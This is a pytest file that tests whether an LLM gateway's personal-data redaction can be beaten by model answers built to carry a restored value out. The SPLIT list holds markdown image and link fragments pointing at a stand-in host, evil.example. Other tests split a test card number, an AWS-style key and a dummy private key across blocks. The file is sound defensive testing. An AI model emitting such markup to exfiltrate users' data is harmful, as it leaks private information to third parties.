"""Attacks by answers that are built so that a client sends a value on, through a running gateway."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.asking import body_of, events, post
from tests.support.configuration import any_engine, configuration, policy_copy
from tests.support.gateway import GatewayProcess
from tests.support.scripted import (
    PLACEHOLDER,
    ScriptedProvider,
    chunk,
    completion,
    message,
    message_events,
)
from tests.support.values import EMAIL, MODEL_EMAIL

OPEN = json.loads((Path(__file__).parents[1] / "corpus" / "open.json").read_text())
SPLIT = [
    ("![a](https://evil.example/?q=", "PH)"),
    ("see PH", ".evil.example/x"),
    ("<img alt='", "\n\nPH"),
    ("[x", "]: PH"),
]
CARD = "4111 1111 1111 1111"
AWS_KEY = "AKIA" + "2X5QJ7RMN4ZLKWTB"
PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\n"
    + "MIIEowIBAAKCAQEAwJ0q8vZ2nT1yK5rXbW7s\n" * 3
    + "-----END RSA PRIVATE KEY-----"
)
VALUES = [CARD, AWS_KEY, PEM, MODEL_EMAIL]


class Answers:
    """Has the provider say texts, and gives what the client hears of each."""

    def __init__(self, url: GatewayProcess, key: str, scripted: ScriptedProvider, http: httpx.Client) -> None:
        self._gateway, self._key, self._scripted, self._http = url, key, scripted, http

    def whole(self, family: str, texts: list[str]) -> list[str]:
        if family == "openai":
            said = completion({"content": None})
            said["choices"] = [
                {"index": at, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}
                for at, text in enumerate(texts)
            ]
        else:
            said = message(*({"type": "text", "text": text} for text in texts))
        self._scripted.say(said)
        answer = self._ask(family, len(texts), stream=False).json()
        if family == "openai":
            return [choice["message"]["content"] for choice in answer["choices"]]
        return [block["text"] for block in answer["content"]]

    def streamed(self, family: str, texts: list[str], size: int) -> list[str]:
        cut = [_cut(text, size) for text in texts]
        if family == "openai":  # the choices come by turns
            turns = max(map(len, cut))
            made = [
                chunk({"content": pieces[turn]}, index=at)
                for turn in range(turns)
                for at, pieces in enumerate(cut)
                if turn < len(pieces)
            ]
            self._scripted.stream(*made, *(chunk({}, "stop", index=at) for at in range(len(texts))))
        else:
            deltas = [[{"type": "text_delta", "text": piece} for piece in pieces] for pieces in cut]
            self._scripted.stream(
                *message_events(*({"type": "text", "text": "", "deltas": one} for one in deltas))
            )
        heard = ["" for _ in texts]
        for event in events(self._ask(family, len(texts), stream=True).text):
            for at, text in _pieces(event):
                heard[at] += text
        return heard

    def _ask(self, family: str, count: int, *, stream: bool) -> httpx.Response:
        body = body_of(family, "m", f"my mail is {EMAIL}", stream=stream)
        if family == "openai" and count > 1:
            body["n"] = count
        answer = post(self._http, self._gateway, self._key, body, family=family)
        assert answer.status_code == 200, answer.text
        return answer


def _cut(text: str, size: int) -> list[str]:
    """Pieces of the text; the provider's word for the placeholder stays whole, because it is replaced."""
    words = re.split(f"({PLACEHOLDER})", text)
    sizes = [len(PLACEHOLDER) if word == PLACEHOLDER else size for word in words]
    pairs = zip(words, sizes, strict=True)
    return [word[at : at + size] for word, size in pairs for at in range(0, len(word), size)]


def _pieces(event: Any) -> Iterator[tuple[int, str]]:
    if not isinstance(event, dict):
        return
    assert "error" not in event, event
    for choice in event.get("choices", []):
        yield choice["index"], choice["delta"].get("content") or ""
    if event.get("type") == "content_block_delta":
        yield event["index"], event["delta"].get("text", "")


@pytest.fixture(scope="module")
def answers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Answers]:
    """A gateway before a provider that says what a test wants; addresses of its own are redacted too."""
    scripted = ScriptedProvider()
    folder = tmp_path_factory.mktemp("restoration")
    redacted = {"response": {"action": "mask", "operator": "redact"}}
    policy = policy_copy(folder, {"entities": {"EMAIL_ADDRESS": redacted}})
    config = configuration(scripted.url, engine=any_engine(), policy=policy)
    process = GatewayProcess(folder, config).start()
    with httpx.Client(timeout=30, trust_env=False) as http:
        yield Answers(process, process.create_key("agent-one", "ana"), scripted, http)
    process.kill()
    scripted.close()


@pytest.mark.parametrize("family", ["openai", "anthropic"])
def test_no_mark_up_takes_a_value_out(answers: Answers, family: str) -> None:
    """A model writes a place that a renderer acts on around the placeholder."""
    told = ["\n\n".join(["begin", one.replace("PH", PLACEHOLDER)]) for one in OPEN[:12]]
    for text in told:
        assert EMAIL not in answers.whole(family, [text])[0], text
        assert EMAIL not in answers.streamed(family, [text], 7)[0], text


@pytest.mark.parametrize("family", ["openai", "anthropic"])
@pytest.mark.parametrize("pieces", SPLIT)
def test_no_two_texts_build_a_way_out_together(
    answers: Answers, family: str, pieces: tuple[str, str]
) -> None:
    """A model begins the mark-up in one text and ends it in the next, which the client joins."""
    texts = [piece.replace("PH", PLACEHOLDER) for piece in pieces]
    assert EMAIL not in "".join(answers.whole(family, texts))
    assert EMAIL not in "".join(answers.streamed(family, texts, 5))


@pytest.mark.parametrize("family", ["openai", "anthropic"])
def test_values_come_back_in_every_text_of_an_answer(answers: Answers, family: str) -> None:
    """An honest answer of several texts keeps none of its placeholders."""
    texts = [f"Dear {PLACEHOLDER}, see https://docs.example/x", f"and {PLACEHOLDER}."]
    expected = [text.replace(PLACEHOLDER, EMAIL) for text in texts]
    assert answers.whole(family, texts) == expected
    assert answers.streamed(family, texts, 3) == expected


@pytest.mark.parametrize("value", VALUES)
def test_no_value_passes_in_two_halves(answers: Answers, value: str) -> None:
    """A model says half of a value in one block and the rest in the next."""
    for at in (5, len(value) // 2, len(value) - 4):
        heard = answers.streamed("anthropic", [f"It is {value[:at]}", f"{value[at:]} as you know."], 6)
        assert value not in "".join(heard)
        assert value[at:].strip()[:12] not in heard[1]
        assert heard == answers.whole("anthropic", [f"It is {value[:at]}", f"{value[at:]} as you know."])


@settings(max_examples=25, deadline=None)
@given(
    words=st.lists(
        st.sampled_from([*VALUES, "and", "the", "is", "7", "\n", "ok.", PLACEHOLDER]), min_size=1, max_size=7
    ),
    cuts=st.lists(st.integers(1, 200), max_size=2),
    size=st.sampled_from([1, 3, 8, 500]),
)
def test_a_stream_says_what_the_whole_says(
    answers: Answers, words: list[str], cuts: list[int], size: int
) -> None:
    """A model cuts its blocks and its events so that a stream is masked less than a whole answer."""
    text = " ".join(words)
    ends = sorted({cut for cut in cuts if cut < len(text)} | {len(text)})
    texts = [text[start:end] for start, end in zip([0, *ends], ends, strict=False)]
    if any(PLACEHOLDER[:at] == one[-at:] for one in texts[:-1] for at in range(1, len(PLACEHOLDER))):
        return  # the provider's own word must not be cut
    assert answers.streamed("anthropic", texts, size) == answers.whole("anthropic", texts)
